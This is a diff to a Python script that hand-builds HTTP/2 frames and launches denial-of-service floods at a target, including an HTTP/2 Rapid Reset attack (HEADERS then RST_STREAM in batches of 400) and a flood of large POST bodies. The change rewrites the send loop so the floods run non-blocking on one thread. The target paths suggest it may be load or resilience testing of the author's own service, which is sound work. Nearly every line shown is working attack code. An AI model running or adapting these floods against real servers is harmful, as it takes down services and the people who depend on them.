@@ -14,6 +14,7 @@ import json
 import os
 import pathlib
 import signal
+import select
 import socket
 import ssl
 import struct
@@ -71,13 +72,22 @@ def headers(stream, method, path, ends, more=()):
     return frame(HEADERS, 4 | ends, stream, block)
 
 
-def discard(connection):
-    """Reads and forgets, so that only what is sent matters."""
-    def read():
-        with contextlib.suppress(OSError, ValueError):
+BLOCKED = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
+
+
+def pour(connection, data):
+    """Sends all, and forgets what comes meanwhile, so that only what is sent matters. On one thread:
+    OpenSSL's connections are not for two."""
+    connection.setblocking(False)
+    left = memoryview(data)
+    while left:
+        with contextlib.suppress(*BLOCKED):
+            left = left[connection.send(left):]
+        with contextlib.suppress(*BLOCKED):
             while connection.recv(65536):
                 pass
-    threading.Thread(target=read, daemon=True).start()
+        if left:
+            select.select([connection], [connection], [], 1)
 
 
 def repeat(function, connections=1):
@@ -100,10 +110,9 @@ def flood(target, frames):
     """Sends the bytes 'frames' as fast as they are taken, on two connections."""
     def run():
         with dial(target) as c:
-            c.sendall(PREFACE + frame(SETTINGS, 0, 0))
-            discard(c)
+            pour(c, PREFACE + frame(SETTINGS, 0, 0))
             while True:
-                c.sendall(frames)
+                pour(c, frames)
     repeat(run, 2)
 
 
@@ -127,10 +136,9 @@ def window_flood(target):
 def rapid_reset(target):
     def run():
         with dial(target) as c:
-            c.sendall(PREFACE + frame(SETTINGS, 0, 0))
-            discard(c)
+            pour(c, PREFACE + frame(SETTINGS, 0, 0))
             for first in itertools.count(1, 400):
-                c.sendall(b"".join(
+                pour(c, b"".join(
                     headers(n, "GET", "/v1/links/0000000000000001/deliveries", 1) +
                     frame(RST_STREAM, 0, n, struct.pack(">I", 8)) for n in range(first, first + 400, 2)))
     repeat(run, 2)
@@ -140,12 +148,11 @@ def rapid_reset(target):
 def bodies(target):
     def run():
         with dial(target) as c:
-            c.sendall(PREFACE + frame(SETTINGS, 0, 0))
-            discard(c)
+            pour(c, PREFACE + frame(SETTINGS, 0, 0))
             for n in range(1, 200, 2):
-                c.sendall(headers(n, "POST", "/v1/sessions/a~b~c/messages?epoch=1", 0))
+                pour(c, headers(n, "POST", "/v1/sessions/a~b~c/messages?epoch=1", 0))
                 for _ in range(64):
-                    c.sendall(frame(DATA, 0, n, bytes(16384)))
+                    pour(c, frame(DATA, 0, n, bytes(16384)))
             time.sleep(60)
     repeat(run, 20)
 
